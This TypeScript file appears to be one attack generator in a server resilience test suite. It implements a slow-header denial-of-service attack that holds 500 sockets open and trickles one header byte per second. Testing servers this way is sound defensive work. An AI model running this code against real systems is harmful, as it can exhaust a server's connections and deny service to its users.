import { type HostileGenerator, repeat } from '../generator.ts';
import { strangerSocket, unsignedHead } from '../unsigned-requests.ts';

export const generator: HostileGenerator = {
  name: '500 sockets that send a byte of their headers each second',
  attack: (target) =>
    repeat(
      500,
      () =>
        new Promise((resolve) => {
          const socket = strangerSocket(target).resume();
          socket.write(unsignedHead('x-slow: '));
          const timer = setInterval(() => socket.write('x'), 1000);
          socket.on('close', () => {
            clearInterval(timer);
            setTimeout(resolve, 100);
          });
        }),
    ),
};
